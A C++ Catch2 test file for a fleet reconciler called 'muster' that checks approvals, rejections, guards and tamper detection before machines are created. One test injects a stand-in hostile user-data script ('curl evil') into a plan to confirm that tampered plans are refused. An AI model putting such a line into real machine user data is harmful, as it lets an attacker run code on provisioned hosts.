#include <catch2/catch.hpp>

#include "reconciler/adapters/plan_file/plan_file.hpp"
#include "reconciler/adapters/signing/approvals_file.hpp"
#include "reconciler/adapters/store/sqlite_store.hpp"
#include "reconciler/core/plan/change/plan_digest.hpp"
#include "tests/approvals/statements.hpp"
#include "tests/support/approval_fixture.hpp"
#include "tests/support/git_folder.hpp"

using namespace muster;
using namespace muster::test;

namespace {

/// Writes into the store as somebody could who has the file, and no key.
void append(const ApprovalFixture& fixture, const JournalBody& body) {
  auto store = SqliteStore::open((fixture.folder() / ".muster/state.db").string());
  REQUIRE(store.ok());
  const auto next = (*store)->next_sequence();
  REQUIRE(next.ok());
  REQUIRE((*store)->append(now(), kFleet, body, *next, kNoLease).ok());
}

/// The journal says that ada approved plan.json, and that its first machine was begun.
void begin(const ApprovalFixture& fixture) {
  const auto plan = load_plan((fixture.folder() / "plan.json").string());
  REQUIRE(plan.ok());
  append(fixture, ApplyStarted{plan->id, kFleet, "ada", fixture.read("plan.json")});
  for (const auto& change : plan->changes) {
    if (std::holds_alternative<CreateMachine>(change.effect))
      append(fixture, StepStarted{plan->id, change.id, 0, "create_machine", "create machine"});
  }
}

void check_untouched(const ApprovalFixture& fixture, const Ran& ran) {
  INFO(ran.out << ran.err);
  CHECK(ran.code != 0);
  CHECK(fixture.changing_requests() == 0);
}

}  // namespace

TEST_CASE("the journal is not believed about an approval") {
  const ApprovalFixture fixture;
  REQUIRE(fixture.plan().code == 0);
  begin(fixture);
  SECTION("apply --resume") {
    const auto ran = fixture.run({"apply", "--resume"});
    check_untouched(fixture, ran);
    CHECK(ran.code == 3);
    CHECK_THAT(ran.err, Catch::Contains("muster does not accept the journal's record of the approval alone"));
  }
  SECTION("apply FILE") {
    check_untouched(fixture, fixture.run({"apply", "plan.json"}));
  }
  SECTION("an apply of something else") {
    check_untouched(fixture, fixture.run({"apply", "--readings", "four.ndjson"}));
  }
  SECTION("the loop") {
    check_untouched(fixture, fixture.run({"reconcile", "--once"}));
  }
  SECTION("a signature for another plan") {
    append(fixture, StatementMade{yes(PlanId("sha256:" + std::string(64, '2')))});
    check_untouched(fixture, fixture.run({"apply", "--resume"}));
  }
  SECTION("a signature of a time after the apply began") {
    append(fixture, StatementMade{yes(fixture.plan_id(), "ada", 30min)});
    check_untouched(fixture, fixture.run({"apply", "--resume"}));
  }
}

TEST_CASE("a signature that held when the apply began is still good, and no signature lifts a guard") {
  struct Row {
    const char* that;
    const char* approval;
    int code;
  };
  const auto row =
      GENERATE(Row{"without guards", "", 0}, Row{"a guard", "    guards: { max_create: 1 }\n", 3});
  INFO(row.that);
  const ApprovalFixture fixture(row.approval);
  REQUIRE(fixture.plan().code == 0);
  const auto id = fixture.plan_id();
  append(fixture, StatementMade{yes(id)});
  begin(fixture);
  const auto ran = fixture.run({"apply", "--resume"});
  INFO(ran.out << ran.err);
  CHECK(ran.code == row.code);
  CHECK((fixture.changing_requests() == 0) == (row.code != 0));
}

TEST_CASE("a no is for good, also when the journal let go of it") {
  const ApprovalFixture fixture;
  REQUIRE(fixture.plan().code == 0);
  const auto id = fixture.plan_id();
  const auto no =
      key_of("bo").sign({kFleet, "bo", now() - 24h * 30, PlanRejection{id, "not before the audit"}});
  {
    auto store = SqliteStore::open((fixture.folder() / ".muster/state.db").string());
    REQUIRE((*store)->put_snapshot(kFleet, "rejection " + id.value, write_approvals({no}), kNoLease).ok());
  }
  fixture.approvals({yes(id)});
  const auto ran = fixture.apply();
  check_untouched(fixture, ran);
  CHECK_THAT(ran.err, Catch::Contains("not before the audit"));
}

TEST_CASE("a plan that somebody wrote into is refused although its id fits") {
  const ApprovalFixture fixture;
  fixture.replace("desired-state/fleet.yaml", "auto_below: $50/month", "auto_below: $500/month");
  git_commit_all(fixture.folder().string(), "more by itself");
  REQUIRE(fixture.plan().code == 0);
  auto plan = *load_plan((fixture.folder() / "plan.json").string());
  for (auto& change : plan.changes) {
    if (auto* create = std::get_if<CreateMachine>(&change.effect))
      create->spec.user_data = "#!/bin/sh\ncurl evil\n";
  }
  plan.id = plan_digest(plan);
  fixture.write("plan.json", *write_plan(plan));
  const auto shown = fixture.run({"show", "plan.json"});
  CHECK_THAT(shown.out, Catch::Contains("user data " + digest_of("#!/bin/sh\ncurl evil\n").brief()));
  const auto ran = fixture.apply();
  check_untouched(fixture, ran);
  CHECK_THAT(ran.err,
             Catch::Contains("does not follow from the declared files") && Catch::Contains("user data"));
}

TEST_CASE("another image for new machines needs a person, whatever it costs") {
  const ApprovalFixture fixture;
  fixture.replace("desired-state/fleet.yaml", "auto_below: $50/month", "auto_below: $500/month");
  git_commit_all(fixture.folder().string(), "more by itself");
  REQUIRE(fixture.run({"apply", "--readings", "four.ndjson", "--auto-approve"}).code == 0);
  fixture.replace("desired-state/fleet.yaml", "image: ubuntu-22-04-x64", "image: ubuntu-24-04-x64");
  git_commit_all(fixture.folder().string(), "a new image");
  const auto plan = fixture.plan();
  INFO(plan.out << plan.err);
  CHECK_THAT(plan.out, Catch::Contains("needs approval") && Catch::Contains("start differently"));
  const auto before = fixture.changing_requests();
  CHECK(fixture.apply().code == 3);
  CHECK(fixture.changing_requests() == before);
  // Who signs is shown it.
  const auto asked = fixture.run({"approve", "plan.json", "--as", "ada", "--key", "nowhere.key"});
  CHECK_THAT(asked.err, Catch::Contains("Access to the machines") && Catch::Contains("ubuntu-24-04-x64"));
}
